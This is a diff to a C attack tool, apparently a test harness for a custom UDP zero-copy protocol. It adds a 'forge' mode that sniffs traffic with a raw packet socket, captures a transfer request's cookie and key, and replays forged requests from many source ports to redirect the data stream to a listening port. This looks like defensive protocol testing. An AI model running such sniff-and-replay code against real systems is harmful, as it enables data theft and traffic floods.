@@ -7,16 +7,29 @@
  *       datagrams at every port in turn: a third random bytes of random length, a third with
  *       ud_zcopy's magic and version and random everything else, a third with a header whose
  *       length lies about the datagram's (longer or shorter than what follows).
+ *   udz_attack forge --to IP --ports P,... [--sources N] [--foreign PORT] [--seconds S]
+ *       an observer: captures the job's datagrams (AF_PACKET, in its own namespace) until it
+ *       sees a ZREQ to IP (one of the given ports), which gives it the owner's cookie, a
+ *       registered region and its rkey; then, from N fresh source ports of its own address,
+ *       sends each a ZREQ for that region with a window of 2^32-1 chunks whose data channel
+ *       is PORT, where it listens and counts what arrives (2 s after the last request). An
+ *       owner that trusted a request would stream the region there.
  * Ends with "udz_attack: sent N" (and the first error, if sending failed).
  */
 #include "udz_proto.h"
 
 #include <arpa/inet.h>
 #include <errno.h>
+#include <linux/if_ether.h>
+#include <linux/if_packet.h>
 #include <netinet/in.h>
+#include <netinet/ip.h>
+#include <netinet/udp.h>
+#include <poll.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <sys/resource.h>
 #include <sys/socket.h>
 #include <time.h>
 #include <unistd.h>
@@ -88,10 +101,156 @@ static int attack_flood(const struct sockaddr_in *to, const int *ports, int npor
     return 0;
 }
 
+/* Captures IPv4 datagrams until one to `to` on one of the ports carries a ZREQ; 0 when found. */
+static int forge_sniff(const struct sockaddr_in *to, const int *ports, int nports, double end,
+                       udz_hdr_t *hdr, udz_zreq_t *req, uint16_t *port)
+{
+    uint8_t pkt[65536];
+    /* ETH_P_ALL: a tap of one protocol sees only what the host receives, not what it sends
+     * (rank 1's requests leave this namespace) */
+    int fd = socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_ALL)), i;
+    struct pollfd pfd;
+    ssize_t n;
+    long seen = 0, udp_to = 0, udz_to = 0;
+
+    if (fd < 0) {
+        perror("udz_attack: AF_PACKET socket");
+        return -1;
+    }
+    pfd.fd = fd;
+    pfd.events = POLLIN;
+    while (now() < end) {
+        if (poll(&pfd, 1, 100) <= 0) {
+            continue;
+        }
+        n = recv(fd, pkt, sizeof(pkt), 0);
+        if (n < (ssize_t)sizeof(struct iphdr)) {
+            continue;
+        }
+        const struct iphdr *ip = (const struct iphdr*)pkt;
+        size_t ihl = (size_t)ip->ihl * 4;
+        if (ip->version != 4) {
+            continue;
+        }
+        ++seen;
+        if ((ip->protocol != IPPROTO_UDP) || (ip->daddr != to->sin_addr.s_addr)) {
+            continue;
+        }
+        ++udp_to;
+        if ((size_t)n < ihl + sizeof(struct udphdr) + UDZ_HDR_LEN + sizeof(*req)) {
+            continue;
+        }
+        const struct udphdr *u = (const struct udphdr*)(pkt + ihl);
+        const uint8_t *d = pkt + ihl + sizeof(*u);
+        memcpy(hdr, d, sizeof(*hdr));
+        udz_to += (hdr->magic == UDZ_MAGIC);
+        if ((hdr->magic != UDZ_MAGIC) || (hdr->version != UDZ_VERSION) ||
+            (hdr->type != UDZ_T_ZREQ) || (hdr->len != sizeof(*req))) {
+            continue;
+        }
+        for (i = 0; i < nports; ++i) {
+            if (ntohs(u->dest) == ports[i]) {
+                memcpy(req, d + UDZ_HDR_LEN, sizeof(*req));
+                *port = ntohs(u->dest);
+                close(fd);
+                return 0;
+            }
+        }
+    }
+    close(fd);
+    fprintf(stderr, "udz_attack: captured %ld IPv4 packets, %ld UDP to the target, %ld of them "
+            "ud_zcopy's, no ZREQ\n", seen, udp_to, udz_to);
+    return -1;
+}
+
+static int attack_forge(const struct sockaddr_in *to, const int *ports, int nports, long sources,
+                        int foreign, double seconds)
+{
+    double end = now() + seconds;
+    struct sockaddr_in dst = *to, me;
+    socklen_t mlen = sizeof(me);
+    uint8_t buf[UDZ_HDR_LEN + sizeof(udz_zreq_t)], junk[2048];
+    udz_hdr_t h;
+    udz_zreq_t q;
+    uint16_t port;
+    long sent = 0, failed = 0, got = 0, got_bytes = 0, i;
+    int lfd, fd, *fds;
+    double quiet;
+
+    /* every source's socket is made first: the forged requests must follow the real one
+     * within its transfer (a rendezvous buffer is registered for that long only) */
+    {
+        struct rlimit rl = {(rlim_t)sources + 64, (rlim_t)sources + 64};
+        (void)setrlimit(RLIMIT_NOFILE, &rl);
+    }
+    fds = calloc((size_t)sources, sizeof(*fds));
+    for (i = 0; (fds != NULL) && (i < sources); ++i) {
+        fds[i] = socket(AF_INET, SOCK_DGRAM, 0);
+    }
+    lfd = socket(AF_INET, SOCK_DGRAM, 0);
+    memset(&me, 0, sizeof(me));
+    me.sin_family = AF_INET;
+    me.sin_port   = htons((uint16_t)foreign);
+    if ((fds == NULL) || (lfd < 0) || (bind(lfd, (const struct sockaddr*)&me, sizeof(me)) != 0)) {
+        perror("udz_attack: foreign port");
+        return 1;
+    }
+    if (forge_sniff(to, ports, nports, end, &h, &q, &port) != 0) {
+        printf("udz_attack: sent 0 (no ZREQ seen in %.0f s)\n", seconds);
+        return 1;
+    }
+    dst.sin_port = htons(port);
+    for (i = 0; (i < sources) && (now() < end); ++i) {
+        udz_hdr_t f = h;
+        udz_zreq_t r = q;
+
+        f.src_cookie = rnd() | 1;   /* a new source: its own incarnation */
+        f.psn        = 1;
+        f.ack        = 1;
+        f.flags      = 0;
+        r.xfer_id    = (uint32_t)rnd();
+        r.chan_id    = (uint32_t)foreign;
+        r.window     = 0xffffffffu;
+        memcpy(buf, &f, sizeof(f));
+        memcpy(buf + sizeof(f), &r, sizeof(r));
+        fd = fds[i];
+        if ((fd < 0) || (sendto(fd, buf, sizeof(buf), 0, (const struct sockaddr*)&dst,
+                                sizeof(dst)) < 0)) {
+            ++failed;
+        } else {
+            ++sent;
+        }
+    }
+    for (quiet = now() + 2; now() < quiet;) {
+        ssize_t n = recv(lfd, junk, sizeof(junk), MSG_DONTWAIT);
+        if (n > 0) {
+            ++got;
+            got_bytes += n;
+        } else {
+            usleep(1000);
+        }
+    }
+    for (i = 0; i < sources; ++i) {
+        if (fds[i] >= 0) {
+            close(fds[i]);
+        }
+    }
+    free(fds);
+    (void)getsockname(lfd, (struct sockaddr*)&me, &mlen);
+    close(lfd);
+    printf("udz_attack: sent %ld forged ZREQs for %llu bytes (window 2^32-1, data channel %d) "
+           "from %ld sources to port %u (%ld sends failed); the foreign port got %ld datagrams "
+           "(%ld bytes)\n", sent, (unsigned long long)q.len, foreign, sent, port, failed, got,
+           got_bytes);
+    return 0;
+}
+
 static void usage(void)
 {
     fprintf(stderr, "usage: udz_attack flood --to IP --ports P,P,... [--count N] "
-                    "[--seconds S] [--seed X]\n");
+                    "[--seconds S] [--seed X]\n"
+                    "       udz_attack forge --to IP --ports P,P,... [--sources N] "
+                    "[--foreign PORT] [--seconds S]\n");
     exit(2);
 }
 
@@ -99,7 +258,8 @@ int main(int argc, char **argv)
 {
     struct sockaddr_in to;
     int have_to = 0, nports = 0, ports[256], i;
-    long count = 1000;
+    long count = 1000, sources = 1000;
+    int foreign = 9;
     double seconds = 10;
     char *tok, *save;
 
@@ -120,17 +280,26 @@ int main(int argc, char **argv)
             count = atol(argv[i + 1]);
         } else if (!strcmp(argv[i], "--seconds")) {
             seconds = atof(argv[i + 1]);
+        } else if (!strcmp(argv[i], "--sources")) {
+            sources = atol(argv[i + 1]);
+        } else if (!strcmp(argv[i], "--foreign")) {
+            foreign = atoi(argv[i + 1]);
         } else if (!strcmp(argv[i], "--seed")) {
             rng_state = strtoull(argv[i + 1], NULL, 0) | 1;
         } else {
             usage();
         }
     }
-    if ((count <= 0) || (seconds <= 0) || (seconds > 600)) {
+    if ((count <= 0) || (sources <= 0) || (sources > 100000) || (seconds <= 0) ||
+        (seconds > 600)) {
         usage();   /* bounded in count and time */
     }
     if (!strcmp(argv[1], "flood") && have_to && (nports > 0)) {
         return attack_flood(&to, ports, nports, count, seconds);
+    }
+    if (!strcmp(argv[1], "forge") && have_to && (nports > 0) && (foreign > 0) &&
+        (foreign < 65536)) {
+        return attack_forge(&to, ports, nports, sources, foreign, seconds);
     }
     usage();
     return 2;
